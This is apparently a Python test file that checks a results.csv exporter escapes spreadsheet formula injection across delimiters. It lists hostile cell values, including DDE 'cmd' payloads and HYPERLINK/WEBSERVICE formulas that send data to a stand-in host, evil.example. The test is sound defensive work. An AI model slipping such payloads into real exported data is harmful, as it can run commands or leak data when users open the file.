"""What a spreadsheet works out of results.csv: nothing, whatever stands in a sheet, an id or an error."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

from support.hostile import attacks

from runner.model import Failure, FailureKind, Job, JobSpec, JobState
from runner.report.results import Table

CELLS = (
    *("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0=1+1", "\n=1+1"),
    *(
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        '=HYPERLINK("http://evil.example/?x="&A1)',
        '=WEBSERVICE("http://evil.example")',
    ),
    *("-2+3+cmd|' /C calc'!A0", '"=1+1', "';=1+1", "a\n=1+1", "=1+1;=2+2", "\ufeff=1+1", "\x00=1+1", "\x0b=1+1", "="),
    *('a;=HYPERLINK("http://evil.example")', 'a\t"=1+1', "a\r\n'\n@SUM(1)", "a; ＝1+1"),
)


def is_worked_out(cell):
    """Whether some spreadsheet would: they leave out what is blank at its beginning, and take wide signs for signs."""
    text = unicodedata.normalize("NFKC", cell)
    text = re.sub(r"^[\s\x00-\x20\ufeff]+", "", text)
    return text[:1] in tuple("=+-@") and not re.fullmatch(r"[+-]?\d+(\.\d+)?", text)


def test_no_cell_is_worked_out():
    """Ids, errors, columns and their names; the first cell of the file too, and every delimiter that a reader tries.

    What LibreOffice 7.4 and Excel work out was looked at by hand: by a semicolon, where the user's country has it so, a
    quote in the middle is a letter, and a line break a new row.
    """
    failures = [Failure(kind=FailureKind.REMOTE, code="x", message=text) for text in CELLS]
    texts = [*CELLS, *attacks(1)]
    columns = {text: text for text in texts}
    jobs = [
        Job(
            spec=JobSpec(job_id=text, model="m", inputs={}, fingerprint="f", row={**columns, "name": text}),
            state=JobState.FAILED,
            failure=failures[number % len(failures)],
        )
        for number, text in enumerate(texts)
    ]
    file = io.StringIO(newline="")
    table = Table(file, [*columns, "name"])
    for job in jobs:
        table.add(job)
    rows = list(csv.reader(io.StringIO(file.getvalue(), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert [cell for row in rows for cell in row if is_worked_out(cell)] == []
    for delimiter in ";\t":
        others = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter)
        assert [cell for row in others for cell in row if is_worked_out(cell)] == []
    pieces = [piece.removeprefix('"') for piece in re.split("[;\t\r\n]", file.getvalue())]
    assert [piece for piece in pieces if is_worked_out(piece)] == []
    assert sum(map(is_worked_out, CELLS)) > 15, "this reading would find one"
